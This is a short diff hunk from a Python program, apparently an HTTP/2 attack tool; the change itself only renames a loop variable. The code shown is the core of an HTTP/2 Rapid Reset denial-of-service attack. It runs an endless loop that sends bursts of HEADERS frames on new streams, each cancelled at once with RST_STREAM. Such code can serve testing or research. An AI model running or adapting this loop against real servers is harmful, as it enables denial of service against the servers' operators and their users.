@@ -134,7 +134,7 @@ async def rapid_reset(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> 
     headers, number = call_headers(), 0
     while not writer.is_closing():
         burst = b""
-        for _ in range(20):
+        for _number in range(20):
             stream, number = 2 * number + 1, number + 1
             burst += frame(HEADERS, END_HEADERS, stream, headers)
             burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
